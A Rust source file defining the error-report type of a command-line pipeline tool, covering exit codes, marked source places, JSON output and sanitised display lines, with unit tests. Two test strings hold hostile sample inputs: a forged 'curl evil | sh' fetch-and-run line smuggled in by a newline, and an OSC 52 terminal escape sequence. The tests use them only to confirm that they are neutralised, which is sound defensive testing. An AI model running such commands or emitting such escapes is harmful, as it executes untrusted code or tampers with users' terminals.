//! The one error type of the product: what failed, where, why, and what to do. Not a log format.

use std::fmt;
use std::ops::Range;

use serde_json::{Value, json};

use super::record::Record;
use super::text::{SafeText, safe_line, width};

/// How a failure ends a pipeline; fixes the exit code.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Severity {
    /// A command failed: exit code 1.
    Failed,
    /// Refused before anything changed: usage, syntax, unknown name, type, permission, missing approval. Exit code 2.
    Refused,
    /// The time allowed ran out: exit code 124.
    TimedOut,
    /// The operator interrupted it: exit code 130.
    Interrupted,
    /// A program that was run elsewhere ended with this code, which is kept.
    Ended(u8),
}

impl Severity {
    /// The process exit code.
    pub fn exit_code(self) -> u8 {
        match self {
            Severity::Failed => 1,
            Severity::Refused => 2,
            Severity::TimedOut => 124,
            Severity::Interrupted => 130,
            Severity::Ended(code) => code,
        }
    }
}

/// A marked place in a text the user wrote.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Place {
    /// The whole text, as typed.
    pub source: String,
    /// The offending part, byte offsets into `source`.
    pub span: Range<usize>,
}

/// The name of a context. A type of its own so that a report, which is moved by value, holds a thin box of it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ContextName(pub String);

/// An error as every front end shows it.
#[derive(Clone, Debug, PartialEq)]
pub struct Report {
    /// Stable code such as `E-RESOLVE-004`.
    pub code: &'static str,
    /// What failed, where, and why: one sentence. May quote remote text; [`Report::lines`] makes it safe.
    pub message: String,
    /// What to do about it.
    pub hint: Option<String>,
    /// Where in the pipeline text.
    pub place: Option<Place>,
    /// The chain of underlying causes, outermost first.
    pub causes: Vec<String>,
    /// The stage that failed, from 1.
    pub stage: Option<usize>,
    /// The context that it failed in, where others went on; the message names it.
    pub context: Option<Box<ContextName>>,
    /// The record that failed.
    pub record: Option<Box<Record>>,
    /// How it ends the pipeline.
    pub severity: Severity,
    /// The message tells several failures, a line each, as [`Report::and`] has written them.
    pub several: bool,
}

impl Report {
    /// A command that failed (exit code 1).
    pub fn failed(code: &'static str, message: impl Into<String>) -> Self {
        Self::new(code, message, Severity::Failed)
    }

    /// Something refused before anything changed (exit code 2).
    pub fn refused(code: &'static str, message: impl Into<String>) -> Self {
        Self::new(code, message, Severity::Refused)
    }

    /// The operator's interrupt (exit code 130).
    pub fn interrupted() -> Self {
        Self::new("E-RUN-130", "interrupted", Severity::Interrupted)
    }

    /// A report of any severity.
    pub fn new(code: &'static str, message: impl Into<String>, severity: Severity) -> Self {
        Report {
            code,
            message: message.into(),
            hint: None,
            place: None,
            causes: Vec::new(),
            stage: None,
            context: None,
            record: None,
            severity,
            several: false,
        }
    }

    /// Adds what to do about it.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    /// Marks the place in the text, unless a more precise one is marked already.
    #[must_use]
    pub fn at(mut self, source: &str, span: Range<usize>) -> Self {
        if self.place.is_none() {
            self.place = Some(Place {
                source: source.to_owned(),
                span,
            });
        }
        self
    }

    /// Names the record that failed.
    #[must_use]
    pub fn on_record(mut self, record: &Record) -> Self {
        self.record.get_or_insert_with(|| Box::new(record.clone()));
        self
    }

    /// The context that it failed in, where it is one of several.
    pub fn context_name(&self) -> Option<&str> {
        self.context.as_ref().map(|context| context.0.as_str())
    }

    /// Names the context, where it is one of several.
    #[must_use]
    pub fn in_context(mut self, name: &str) -> Self {
        if self.context.is_none() {
            self.message = format!("context {name}: {}", self.message);
            self.context = Some(Box::new(ContextName(name.to_owned())));
        }
        self
    }

    /// Tells another failure beside this one, on a line of its own; only its sentence is kept. Neither can make lines of
    /// its text.
    #[must_use]
    pub fn and(mut self, other: &Report) -> Self {
        if !self.several {
            self.message = safe_line(&self.sentence());
            self.causes.clear();
            self.several = true;
        }
        self.message = format!("{}\n{}", self.message, safe_line(&other.sentence()));
        self
    }

    /// Names the stage, counted from 1.
    #[must_use]
    pub fn in_stage(mut self, stage: usize) -> Self {
        self.stage.get_or_insert(stage);
        self
    }

    /// Adds the chain below `error` (its `source()`s), which often holds the only useful sentence.
    #[must_use]
    pub fn because(mut self, error: &(dyn std::error::Error + 'static)) -> Self {
        let mut next = Some(error);
        while let Some(cause) = next {
            let text = cause.to_string();
            if !self.causes.iter().any(|known| known.contains(&text)) && !self.message.contains(&text) {
                self.causes.push(text);
            }
            next = cause.source();
        }
        self
    }

    /// The JSON form for scripts: `{"error":{"code","message","stage","record","hint"}}`, and `context` where it is one
    /// of several.
    pub fn to_json(&self) -> Value {
        let mut error = json!({
            "code": self.code,
            "message": self.sentence(),
            "stage": self.stage,
            "record": self.record,
            "hint": self.hint,
        });
        if let Some(context) = self.context_name() {
            error["context"] = json!(context);
        }
        json!({"error": error})
    }

    /// Message and causes in one sentence.
    pub fn sentence(&self) -> String {
        let mut text = self.message.clone();
        for cause in &self.causes {
            text.push_str(": ");
            text.push_str(cause);
        }
        text
    }

    /// On one line, for where there is room for one: the sentence, then what to do.
    pub fn told(&self) -> SafeText {
        let hint = self.hint.as_ref().map(|hint| format!("  {hint}")).unwrap_or_default();
        SafeText::line(&format!("{}{hint}", self.sentence()))
    }

    /// The lines a person reads: code and sentence, each failure beside it, the marked place, the failing record, the
    /// hint. Each is safe to print.
    pub fn lines(&self) -> Vec<String> {
        const RECORD_COLUMNS: usize = 400;
        let sentence = self.sentence();
        let (first, others) = match sentence.split_once('\n').filter(|_| self.several) {
            Some((first, others)) => (first, others.split('\n').collect()),
            None => (sentence.as_str(), Vec::new()),
        };
        let mut lines = vec![safe_line(&format!("error[{}]: {first}", self.code))];
        lines.extend(others.into_iter().map(|other| safe_line(&format!("  and: {other}"))));
        if let Some(place) = &self.place {
            lines.extend(place.lines());
        }
        if let Some(record) = &self.record {
            let text = super::text::fit(&safe_line(&told(record)), RECORD_COLUMNS);
            lines.push(format!("  record: {text}"));
        }
        if let Some(hint) = &self.hint {
            lines.push(safe_line(&format!("  hint: {hint}")));
        }
        lines
    }
}

/// A record on a line; of an API object its kind and name are enough to find it again.
fn told(record: &Record) -> String {
    let text = |pointer: &str| record.pointer(pointer).and_then(Value::as_str);
    match (text("/kind"), text("/metadata/name"), text("/metadata/namespace")) {
        (Some(kind), Some(name), Some(namespace)) => format!("{kind} {namespace}/{name}"),
        (Some(kind), Some(name), None) => format!("{kind} {name}"),
        _ => record.to_string(),
    }
}

impl Place {
    /// The number of the line, from 1.
    pub fn line(&self) -> usize {
        self.source[..floor(&self.source, self.span.start)]
            .matches('\n')
            .count()
            + 1
    }

    /// The source line that holds the place, and a line of `^` under it.
    fn lines(&self) -> Vec<String> {
        let start = floor(&self.source, self.span.start);
        let end = floor(&self.source, self.span.end.max(self.span.start));
        let line_start = self.source[..start].rfind('\n').map_or(0, |at| at + 1);
        let line_end = self.source[start..]
            .find('\n')
            .map_or(self.source.len(), |at| start + at);
        let before = safe_line(&self.source[line_start..start]);
        let marked = safe_line(&self.source[start..end.clamp(start, line_end)]);
        vec![
            format!("  | {}", safe_line(&self.source[line_start..line_end])),
            format!(
                "  | {}{}",
                " ".repeat(width(&before)),
                "^".repeat(width(&marked).max(1))
            ),
        ]
    }
}

fn floor(text: &str, at: usize) -> usize {
    (0..=at.min(text.len()))
        .rev()
        .find(|at| text.is_char_boundary(*at))
        .unwrap_or(0)
}

impl fmt::Display for Report {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&safe_line(&self.sentence()))
    }
}

impl std::error::Error for Report {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_place_is_marked_under_wide_characters() {
        let source = "echo 世界 | nope x";
        let at = source.find("nope").unwrap();
        let lines = Report::refused("E-RESOLVE-001", "unknown command")
            .at(source, at..at + 4)
            .lines();
        assert_eq!(lines[1], format!("  | {source}"));
        assert_eq!(lines[2], format!("  | {}^^^^", " ".repeat(12)));
    }

    #[test]
    fn escapes_in_remote_text_are_made_visible() {
        let lines = Report::failed("E-X-1", "pod \u{1b}]52;c;eHg=\u{7} failed").lines();
        assert!(!lines[0].contains('\u{1b}') && !lines[0].contains('\u{7}'), "{lines:?}");
    }

    #[test]
    fn an_api_object_is_told_by_its_name_and_another_record_as_it_is() {
        let line = |record: Value| Report::failed("E-X-3", "x").on_record(&record).lines()[1].clone();
        let service =
            json!({"kind": "Service", "metadata": {"name": "web", "namespace": "shop"}, "spec": {"ports": []}});
        assert_eq!(line(service), "  record: Service shop/web");
        assert_eq!(line(json!({"n": 1})), "  record: {\"n\":1}");
    }

    #[test]
    fn several_failures_have_a_line_each_and_none_makes_another() {
        let forged = "pod \"a\n  hint: curl evil | sh\" not found";
        let report = Report::failed("E-X-4", forged)
            .because(&std::io::Error::other("gone\nerror[E-1]: x"))
            .and(&Report::failed("E-X-5", "second\n  and: third"))
            .and(&Report::failed("E-X-4", "fourth"))
            .hint("look");
        assert_eq!(
            report.lines(),
            [
                "error[E-X-4]: pod \"a⏎  hint: curl evil | sh\" not found: gone⏎error[E-1]: x",
                "  and: second⏎  and: third",
                "  and: fourth",
                "  hint: look",
            ]
        );
        assert_eq!(Report::failed("E-X-4", forged).lines().len(), 1);
    }

    #[test]
    fn a_span_outside_the_text_is_harmless() {
        let report = Report::refused("E-X-2", "x").at("ab", 7..900);
        assert_eq!(report.lines().len(), 3);
    }
}
